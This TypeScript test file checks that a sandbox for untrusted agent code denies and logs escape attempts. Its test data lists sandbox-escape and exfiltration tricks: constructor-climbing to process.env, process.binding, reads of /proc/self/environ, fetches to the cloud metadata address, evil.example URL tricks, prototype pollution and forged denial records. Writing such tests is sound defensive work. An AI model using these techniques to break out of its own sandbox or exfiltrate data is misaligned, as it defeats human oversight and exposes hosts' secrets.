// A hostile agent inside a real enclosure. Invariant attacked: nothing is reached but what the manifest grants, and each
// attempt that reaches the broker stands in the record as a denial. Canaries lie in the environment, in files, on a
// loopback port, in another session and in the host's memory; none is ever seen.

import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, it, onTestFinished } from "vitest";
import { makeWorld, type Ran } from "./world.ts";

const CANARY = "canary-5f2d81c0";

/** An agent that tries one thing and hands out whatever it got, or how it failed. */
function attempt(code: string): string {
  return `export default async function main() { try { return { got: await (async () => { ${code} })() }; } catch (e) { return { name: e.name, code: e.code, message: String(e.message) }; } }`;
}

/** One that tries many things, one after the other, and hands out for each what it got or how it failed. */
function attempts(named: readonly (readonly [name: string, code: string])[]): string {
  const tries = named.map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`);
  return `export default async function main() {
    const said = {};
    for (const [name, attempt] of Object.entries({ ${tries.join(", ")} })) {
      try { said[name] = { got: await attempt() }; } catch (e) { said[name] = { name: e.name, code: e.code, message: String(e.message) }; }
    }
    return said;
  }`;
}

/** Those of the attempts that got something. */
function got({ result }: Ran): readonly string[] {
  const said = Object.entries(result.output as Record<string, object>);
  expect(said.length).toBeGreaterThan(5);
  return said.filter(([, one]) => "got" in one).map(([name]) => name);
}

function everything(ran: Ran): string {
  return JSON.stringify([ran.result, ran.events]);
}

const REACHES = [
  ["reads a file by require", `return (0, eval)("require")("node:fs").readFileSync("/etc/hostname", "utf8")`],
  ["imports at run time", `return await (0, eval)("import('node:fs')")`],
  ["reaches for process", `return process.mainModule.require("fs")`],
  ["binds a native module", `return process.binding("fs")`],
  ["loads a built-in through process", `return process.getBuiltinModule("fs").readFileSync("/etc/hostname", "utf8")`],
  ["kills its host", `return process.kill(process.ppid, 9)`],
  ["climbs by a constructor", `return this.constructor.constructor("return process.env.CANARY")()`],
  ["climbs by the constructor of what a host gave it", `return (await Promise.resolve()).constructor`],
  ["opens a socket", `return new WebSocket("ws://127.0.0.1:1")`],
  ["opens an XMLHttpRequest", `return new XMLHttpRequest()`],
  ["compiles WebAssembly", `return new WebAssembly.Memory({ initial: 1 })`],
  ["shares memory", `return new SharedArrayBuffer(8)`],
  [
    "looks for isolated-vm",
    `return globalThis.ivm ?? globalThis._ivm ?? (() => { throw new ReferenceError("no ivm") })()`,
  ],
] as const;

describe("an agent that was granted nothing", () => {
  it("gets an error whatever it tries", async () => {
    const ran = await makeWorld("", { CANARY }).run(attempts(REACHES));
    expect(ran.result.status).toBe("completed");
    expect(got(ran)).toEqual([]);
  });

  it("sees none of the host's environment", async () => {
    process.env["ENCLOSURE_TEST_CANARY"] = CANARY;
    onTestFinished(() => void delete process.env["ENCLOSURE_TEST_CANARY"]);
    const ran = await makeWorld(`env: { LEVEL: info }\n`, { CANARY }).run(`export default () => ({ ...process.env });`);
    expect(ran.result.output).toEqual({ LEVEL: "info" });
    expect(everything(ran)).not.toContain(CANARY);
  });

  it("has no fetch without an http grant, and the loopback server hears nothing", async () => {
    let heard = 0;
    const server = createServer((_, response) => {
      heard++;
      response.end(CANARY);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => void server.close());
    const { port } = server.address() as AddressInfo;
    const ran = await makeWorld().run(attempt(`return (await fetch("http://127.0.0.1:${port}/")).text()`));
    expect(everything(ran)).not.toContain(CANARY);
    expect(heard).toBe(0);
  });

  it("has nothing of another session, neither in memory nor in prototypes", async () => {
    const world = makeWorld();
    await world.run(
      `globalThis.left = "${CANARY}"; Object.prototype.left = "${CANARY}"; Array.prototype.push = () => "${CANARY}";`,
    );
    const ran = await world.run(`export default () => [globalThis.left, {}.left, [].push(1)];`);
    expect(ran.result.output).toEqual([{ $type: "undefined" }, { $type: "undefined" }, 1]);
  });

  it("cannot change what the host's own objects inherit", async () => {
    const world = makeWorld(`capabilities: { files: { use: fs, mounts: { /in: { path: data, access: ro } } } }\n`);
    world.write("data/a.txt", "a");
    const ran = await world.run(`import { files } from "enclosure:caps";
      await files.readText(JSON.parse('{"path":"/in/a.txt","__proto__":{"polluted":true}}')).catch(() => {});
      await files.readText({ path: "/in/a.txt", constructor: { prototype: { polluted: true } } }).catch(() => {});
      throw Object.assign(new Error("x"), JSON.parse('{"__proto__":{"polluted":true}}'));`);
    expect(ran.result.status).toBe("failed");
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });
});

describe("an agent that was granted a little", () => {
  const GRANTS = `capabilities:
  files: { use: fs, mounts: { /in: { path: data, access: ro } } }
  web: { use: http, allow: ["GET https://api.example.com/v1/**"] }
`;

  it("is denied whatever it asks for beyond that, each time on the record", async () => {
    const world = makeWorld(GRANTS);
    world.write("data/a.txt", "a");
    const asks = [
      ["the store", `files.readText(${JSON.stringify(world.store)})`],
      ["the store, climbing", `files.readText("/in/../../store/audit.db")`],
      ["the key folder", `files.readText(${JSON.stringify(join(world.home, "cache.key"))})`],
      ["the manifest", `files.readText("/in/../enclosure.yaml")`],
      ["the host's processes", `files.readText("/proc/self/environ")`],
      ["the metadata service", `fetch("http://169.254.169.254/latest/meta-data/")`],
      ["the loopback", `fetch("http://127.0.0.1:1/")`],
      ["a name with a user in it", `fetch("https://api.example.com@evil.example/v1/x")`],
      ["a path that climbs", `fetch("https://api.example.com/v1/%2e%2e/admin")`],
      ["a query to carry data out", `fetch("https://api.example.com/v1/x?leak=1")`],
      ["a method that was not granted", `fetch("https://api.example.com/v1/x", { method: "POST", body: "x" })`],
      ["a name to be looked up", `fetch("https://${CANARY}.evil.example/")`],
    ] as const;
    const ran = await world.run(
      `import { files, web } from "enclosure:caps"; void files; void web;\n${attempts(asks.map(([name, call]) => [name, `return ${call}`]))}`,
    );
    expect(got(ran)).toEqual([]);
    expect(ran.result.calls).toMatchObject({ admitted: 0, denied: asks.length });
    expect(ran.bodies("call.denied")).toHaveLength(asks.length);
  });

  it("cannot put a refusal on the record that never was, nor a failure of ours", async () => {
    const world = makeWorld(GRANTS);
    world.write("data/a.txt", "a");
    const thrown = async (error: string) =>
      (
        await world.run(`import { files } from "enclosure:caps";
      export default async () => { await files.readText("/in/../x").catch(() => {}); throw ${error}; };`)
      ).result;
    const named = (name: string, code: string) =>
      thrown(`Object.assign(new Error("no"), { name: "${name}", code: "${code}" })`);
    expect(await named("CapabilityDenied", "APPROVAL_REFUSED")).toMatchObject({ status: "failed", exit: 1 });
    const failed = await named("AgentFailure", "RESULT_TOO_LARGE");
    expect(failed).toMatchObject({ status: "failed", error: { code: "AGENT_THREW" } });
  });

  it("finds its capability functions frozen, and nothing behind them", async () => {
    const world = makeWorld(GRANTS);
    world.write("data/a.txt", "a");
    const { result } = await world.run(`import * as caps from "enclosure:caps";
      const { files } = caps;
      const tries = [];
      for (const change of [() => { files.readText = 1; }, () => { delete files.readText; }, () => { files.extra = 1; }, () => { Object.setPrototypeOf(files, {}); }, () => { files.readText.call = 1; }]) {
        try { change(); tries.push("changed"); } catch (e) { tries.push(e.name); }
      }
      const all = { ...caps };
      export default { tries, write: typeof files.write, names: Object.keys(all).sort() };`);
    expect(result.output).toEqual({
      tries: Array(5).fill("TypeError"),
      write: "undefined",
      names: ["files", "note", "web"],
    });
  });

  it("is refused an undeclared name when it is compiled, with the manifest's line to add", async () => {
    const refused = makeWorld(GRANTS).run(`import { shell } from "enclosure:caps"; await shell.run("id");`);
    await expect(refused).rejects.toMatchObject({
      code: "BUNDLE_REFUSED",
      exit: 2,
      problems: [{ message: expect.stringContaining("shell") as string, line: 1 }],
    });
  });
});
